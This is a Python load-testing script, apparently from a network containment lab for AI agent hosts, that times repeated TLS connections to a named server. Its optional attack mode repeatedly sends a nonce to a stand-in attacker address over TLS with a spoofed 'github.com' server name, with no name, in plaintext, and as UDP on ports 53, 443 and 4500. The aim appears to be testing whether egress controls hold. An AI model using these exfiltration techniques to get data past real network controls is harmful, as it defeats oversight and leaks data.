"""Load from the agent host: repeated TLS connections to a name, with their durations. Standard library only.

`python -m containment_lab.validation.load --name github.com --seconds 3` prints one JSON object: successful and failed connections,
their durations in seconds, and the first errors. `--attack NONCE` also sends the nonce to the attacker all the time, in several ways.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import sys
import threading
import time
from dataclasses import asdict, dataclass, field

from containment_lab.attacks.task import make_trusting_context


@dataclass
class Measurements:
    """The measurements of one worker."""

    ok: int = 0
    failed: int = 0
    seconds: list[float] = field(default_factory=list)
    reasons: list[str] = field(default_factory=list)


def measure_connection(address: str, name: str, port: int, timeout: float) -> float:
    """Open one TLS connection, send one request, and return the seconds until the end of the handshake.

    Args:
        address: The address to connect to.
        name: The server name and Host.
        port: The port.
        timeout: Seconds to wait.
    """
    begun = time.perf_counter()
    with socket.create_connection((address, port), timeout=timeout) as handle:
        handle.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        with make_trusting_context().wrap_socket(handle, server_hostname=name) as inside:
            took = time.perf_counter() - begun
            inside.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
            if not inside.recv(4096).startswith(b"HTTP/1.1 200"):
                raise ConnectionError("no answer")
    return took


def _measure_connections(address: str, name: str, port: int, end: float, out: Measurements) -> None:
    while time.monotonic() < end:
        try:
            out.seconds.append(measure_connection(address, name, port, 5))
            out.ok += 1
        except OSError as error:
            out.failed += 1
            if len(out.reasons) < 5:
                out.reasons.append(f"{type(error).__name__}: {error}")
            time.sleep(0.02)


def _send_attacks(nonce: str, end: float) -> None:
    """Send a nonce to the attacker: by name, without a name, in the clear, and as a datagram."""
    target = "203.0.113.250"
    while time.monotonic() < end:
        for name in ("attacker.example", "github.com", None):
            with contextlib.suppress(OSError), contextlib.ExitStack() as held:
                handle = held.enter_context(socket.create_connection((target, 443), timeout=1))
                held.enter_context(make_trusting_context().wrap_socket(handle, server_hostname=name)).sendall(nonce.encode())
        with contextlib.suppress(OSError), socket.create_connection((target, 443), timeout=1) as handle:
            handle.sendall(nonce.encode() + b"\r\n\r\n")
        for port in (53, 443, 4500):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
                datagram.sendto(nonce.encode(), (target, port))
        time.sleep(0.02)


def main() -> None:
    """Make the load and print the measurements."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--name", required=True)
    parser.add_argument("--address", default="")
    parser.add_argument("--port", type=int, default=443)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--workers", type=int, default=4)
    parser.add_argument("--attack", default="")
    given = parser.parse_args()
    address = given.address or str(socket.getaddrinfo(given.name, None, socket.AF_INET)[0][4][0])
    end = time.monotonic() + given.seconds
    seen = [Measurements() for _ in range(given.workers)]
    threads = [threading.Thread(target=_measure_connections, args=(address, given.name, given.port, end, each)) for each in seen]
    if given.attack:
        threads.append(threading.Thread(target=_send_attacks, args=(given.attack, end)))
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    whole = Measurements()
    for part in seen:
        whole.ok, whole.failed = whole.ok + part.ok, whole.failed + part.failed
        whole.seconds += part.seconds
        whole.reasons += part.reasons
    json.dump(asdict(whole), sys.stdout)


if __name__ == "__main__":
    main()
